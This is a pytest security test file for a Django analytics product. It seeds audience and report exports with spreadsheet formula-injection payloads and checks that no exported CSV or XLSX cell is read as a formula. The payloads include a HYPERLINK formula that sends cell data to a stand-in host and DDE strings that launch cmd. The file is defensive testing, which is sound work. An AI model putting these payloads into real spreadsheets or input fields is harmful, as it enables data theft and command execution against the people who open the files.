"""CSV (and XLSX) formula injection in every spreadsheet the product writes: the CDP audience export (streamed and
as a job) and reports (every standard template as CSV and XLSX, and dashboard/campaign exports).

Hostile text goes in wherever a user or an integration can put it (profile ids, e-mails, traits and their keys,
campaign, account, client, report and segment names, event channel names). A cell is read back the way a spreadsheet
would: split on commas and — as Excel does in many European locales — on semicolons; no cell may start like a
formula unless it is a plain number, and no XLSX cell may be a formula.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from analytics.reporting.templates import STANDARD_TEMPLATES
from campaigns.models import CampaignDailyMetric
from cdp.models import Event
from cdp.services import exports as export_services
from tests.campaigns.factories import AdAccountFactory, CampaignFactory
from tests.cdp.factories import ProfileFactory, SegmentFactory
from tests.helpers import client_for
from tests.workflow.factories import ClientFactory

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][+-]?\d+)?$")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "Acme;=1+1", "Acme;+cmd|'/C calc'!A0",
    "Acme,=1+1", '"=1+1"', "=1+1\n=2+2", "-1", "@", "=",
)


def spreadsheet_cells(text: str, delimiter: str) -> list[str]:
    """Cells as a spreadsheet reads them: every quote toggles quoting (a doubled one inside quotes is a quote),
    the delimiter and line breaks split only outside quotes."""
    cells, cell, quoted, i = [], [], False, 0
    while i < len(text):
        char = text[i]
        if char == '"':
            if quoted and text[i + 1:i + 2] == '"':
                cell.append('"')
                i += 1
            else:
                quoted = not quoted
        elif not quoted and char in (delimiter, "\n", "\r"):
            cells.append("".join(cell))
            cell = []
        else:
            cell.append(char)
        i += 1
    return cells + ["".join(cell)]


def dangerous_cells(text: str) -> list[str]:
    return [f"{delimiter!r}: {cell[:50]!r}" for delimiter in (",", ";") for cell in spreadsheet_cells(text, delimiter)
            if cell.startswith(FORMULA_START) and not NUMBER.match(cell)]


def dangerous_xlsx_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)):
                    found.append(f"{sheet.title}!{cell.coordinate}: {str(cell.value)[:50]!r}")
    return found


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_data(user, settings, tmp_path):
    settings.RATELIMIT_ENABLED = False
    settings.MEDIA_ROOT = tmp_path / "media"
    tenant = user.tenant
    for n, payload in enumerate(PAYLOADS):
        profile = ProfileFactory(tenant=tenant, email=f"{payload[:20]}{n}@evil.example", external_id=payload,
                                 phone=payload[:30], lifecycle_stage="customer",
                                 traits={"note": payload, f"k{n}{payload[:10]}": payload, "list": [payload]})
        Event.objects.for_tenant(tenant).create(
            tenant=tenant, profile=profile, origin_profile_id=profile.pk, event_type="ad_click",
            timestamp=timezone.now() - dt.timedelta(days=3), received_at=timezone.now(),
            properties={"channel": payload, "campaign": payload})
        Event.objects.for_tenant(tenant).create(
            tenant=tenant, profile=profile, origin_profile_id=profile.pk, event_type="purchase",
            timestamp=timezone.now() - dt.timedelta(days=2), received_at=timezone.now(), revenue=Decimal("10"),
            properties={"amount": 10})
    client = ClientFactory(tenant=tenant, name=PAYLOADS[0])
    account = AdAccountFactory(tenant=tenant, name=PAYLOADS[2], client=client, last_synced_at=timezone.now())
    today = timezone.now().date()
    for n, payload in enumerate(PAYLOADS):
        campaign = CampaignFactory(tenant=tenant, ad_account=account, name=payload, platform="meta")
        CampaignDailyMetric.objects.for_tenant(tenant).bulk_create([
            CampaignDailyMetric(tenant=tenant, campaign=campaign, date=today - dt.timedelta(days=d),
                                spend=Decimal(10 + n), revenue=Decimal(30 + n), conversions=Decimal(2),
                                impressions=1000, clicks=50) for d in range(1, 15)])
    segment = SegmentFactory(tenant=tenant, name=PAYLOADS[1], conditions={"operator": "and", "rules": [
        {"field": "lifecycle_stage", "operator": "equals", "value": "customer"}]})
    return {"user": user, "tenant": tenant, "client": client, "segment": segment, "today": today}


@pytest.mark.attack("csv_injection")
def test_audience_exports_keep_hostile_text_as_text(hostile, hostile_data, django_capture_on_commit_callbacks):
    api = client_for(hostile_data["user"])
    segment = hostile_data["segment"]
    response = api.post("/api/v1/cdp/audiences/export", {"segment_id": str(segment.pk), "include_traits": True,
                                                          "include_events": True}, format="json")
    assert response.status_code == 200, response.content[:300]
    text = _body(response).decode()
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(PAYLOADS) + 1
    for payload in PAYLOADS:
        hostile.expect("csv_injection", f"streamed export with {payload[:30]!r}",
                       not [c for c in dangerous_cells(text) if payload[:8].strip() in c], dangerous_cells(text)[:5])
    with django_capture_on_commit_callbacks(execute=True):
        export = export_services.export_request(tenant=hostile_data["tenant"], segment=segment, include_traits=True,
                                                include_events=True, requested_by=hostile_data["user"])
    response = api.get(f"/api/v1/cdp/audiences/exports/{export.pk}/download")
    assert response.status_code == 200, response.content[:300]
    text = _body(response).decode()
    hostile.expect("csv_injection", "export job file", not dangerous_cells(text), dangerous_cells(text)[:5])


@pytest.mark.attack("csv_injection")
def test_reports_and_exports_keep_hostile_text_as_text(hostile, hostile_data, django_capture_on_commit_callbacks):
    api = client_for(hostile_data["user"])
    today = hostile_data["today"]
    date_range = {"start": str(today - dt.timedelta(days=14)), "end": str(today - dt.timedelta(days=1))}
    for template in STANDARD_TEMPLATES:
        key = template.key
        for fmt in ("csv", "xlsx"):
            body = {"template_id": key, "name": PAYLOADS[0], "format": fmt, "date_range": date_range}
            if key == "client_report":
                body["filters"] = {"client_id": str(hostile_data["client"].pk)}
            with django_capture_on_commit_callbacks(execute=True):
                created = api.post("/api/v1/reporting/reports", body, format="json")
            assert created.status_code == 202, created.content[:300]
            report = api.get(f"/api/v1/reporting/reports/{created.json()['id']}").json()
            assert report["status"] == "ready", report
            content = _body(api.get(f"/api/v1/reporting/reports/{report['id']}/download"))
            found = dangerous_cells(content.decode()) if fmt == "csv" else dangerous_xlsx_cells(content)
            hostile.expect("csv_injection", f"{key} as {fmt}", not found, found[:5])
    for kind in ("dashboard", "campaigns", "attribution"):
        for fmt in ("csv", "xlsx"):
            with django_capture_on_commit_callbacks(execute=True):
                created = api.post("/api/v1/reporting/export", {"type": kind, "format": fmt}, format="json")
            assert created.status_code == 202, created.content[:300]
            content = _body(api.get(f"/api/v1/reporting/reports/{created.json()['id']}/download"))
            found = dangerous_cells(content.decode()) if fmt == "csv" else dangerous_xlsx_cells(content)
            hostile.expect("csv_injection", f"{kind} export as {fmt}", not found, found[:5])
